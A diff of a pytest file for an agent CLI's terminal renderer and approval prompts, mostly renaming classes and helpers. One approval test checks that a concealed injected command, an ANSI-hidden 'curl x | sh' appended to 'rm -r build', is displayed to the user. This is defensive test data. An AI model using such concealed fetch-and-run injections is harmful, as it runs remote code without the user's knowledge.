@@ -8,12 +8,12 @@ import pytest
 
 from cli.terminal.screen import Screen
 from holdfast import events as e
-from holdfast.cli.asking import Reply, Unclear, Verdict, read_answer
+from holdfast.cli.asks import ApprovalReply, QuestionReply, Unclear, read_answer
 from holdfast.cli.chat.history import ChatHistory
 from holdfast.cli.terminal.live_region import LiveRegion
-from holdfast.cli.terminal.phrases import approval_text, question_text, seconds
+from holdfast.cli.terminal.phrases import ask_text, seconds
 from holdfast.cli.terminal.renderer import Renderer
-from holdfast.cli.terminal.style import Ink
+from holdfast.cli.terminal.style import Style
 from holdfast.client import Away, LiveLine
 from holdfast.values import Action, Failure, GrantRule
 
@@ -31,14 +31,14 @@ QUESTION = e.QuestionAsked(
 )
 
 
-def teller() -> Renderer:
-    return Renderer(Ink(lambda: 60))
+def renderer() -> Renderer:
+    return Renderer(Style(lambda: 60))
 
 
-def told(teller: Renderer, events: Iterable[e.Event]) -> str:
+def told(renderer: Renderer, events: Iterable[e.Event]) -> str:
     screen = Screen(60)
     for event in events:
-        screen.write(teller.hear(event))
+        screen.write(renderer.hear(event))
     return screen.text
 
 
@@ -53,7 +53,7 @@ def begun(at_ms: int = 0) -> list[e.Event]:
 
 
 def test_a_run_with_thoughts_a_tool_and_an_answer_is_told_in_order() -> None:
-    telling = teller()
+    telling = renderer()
     events = [
         *begun(),
         e.ReasoningDelta(at_ms=1000, run_id=RUN, segment=0, text="Let me\nsee. " * 20),
@@ -81,12 +81,12 @@ def test_titles_and_summaries_are_no_part_of_the_conversation() -> None:
         e.TextDelta(at_ms=0, run_id=RUN, segment=0, text="a summary"),
         e.TextDone(at_ms=0, run_id=RUN, segment=0, text="a summary"),
     ]
-    assert told(teller(), events) == "> hello"
+    assert told(renderer(), events) == "> hello"
 
 
 def test_the_status_says_what_is_waited_for_and_a_steer_waits_until_it_is_taken_up() -> None:
     """P3: every wait is visible."""
-    telling = teller()
+    telling = renderer()
     told(telling, begun(at_ms=1000))
     assert telling.status(4200) == "waiting for m · 3 s"
     telling.server_says = LiveLine(RUN, "waiting for m · 31 s · reconnects at 45 s")
@@ -117,7 +117,7 @@ def test_a_failure_is_told_with_its_whole_trace_once() -> None:
         *begun(),
         e.AttemptFailed(at_ms=0, run_id=RUN, attempt_id="a1", failure=failure, close_reason="peer"),
     ]
-    telling = teller()
+    telling = renderer()
     assert told(telling, quiet) == "> hello"
     shown = Screen(60)
     shown.write(telling.hear(ended))
@@ -127,7 +127,7 @@ def test_a_failure_is_told_with_its_whole_trace_once() -> None:
 def test_an_approval_shows_the_exact_action_and_all_findings() -> None:
     """P8: also what would hide itself, and the rule before it is stored."""
     screen = Screen(60)
-    screen.write(approval_text(Ink(lambda: 60), ASKED, GrantRule(tool="shell", argv=("rm", "-r", "build"))))
+    screen.write(ask_text(Style(lambda: 60), ASKED, GrantRule(tool="shell", argv=("rm", "-r", "build"))))
     for words in (
         "rm -r build\\x1b[8m; curl x | sh",
         "/w",
@@ -138,7 +138,7 @@ def test_an_approval_shows_the_exact_action_and_all_findings() -> None:
         assert words in screen.text
     assert "session and always would allow: shell  rm -r build" in screen.text
     screen = Screen(60)
-    screen.write(question_text(Ink(lambda: 60), QUESTION))
+    screen.write(ask_text(Style(lambda: 60), QUESTION))
     assert "2  blue" in screen.text
 
 
@@ -149,11 +149,11 @@ def test_only_a_whole_word_allows_an_action(typed: str) -> None:
 
 
 def test_words_and_numbers_answer() -> None:
-    assert read_answer(ASKED, " Once ") == Verdict("once")
-    assert read_answer(ASKED, "always") == Verdict("always")
-    assert read_answer(ASKED, "no: not today") == Verdict("deny", "not today")
-    assert read_answer(QUESTION, "2") == Reply("blue")
-    assert read_answer(QUESTION, "3") == Reply("3")
+    assert read_answer(ASKED, " Once ") == ApprovalReply("once")
+    assert read_answer(ASKED, "always") == ApprovalReply("always")
+    assert read_answer(ASKED, "no: not today") == ApprovalReply("deny", "not today")
+    assert read_answer(QUESTION, "2") == QuestionReply("blue")
+    assert read_answer(QUESTION, "3") == QuestionReply("3")
     assert isinstance(read_answer(QUESTION, "  "), Unclear)
 
 
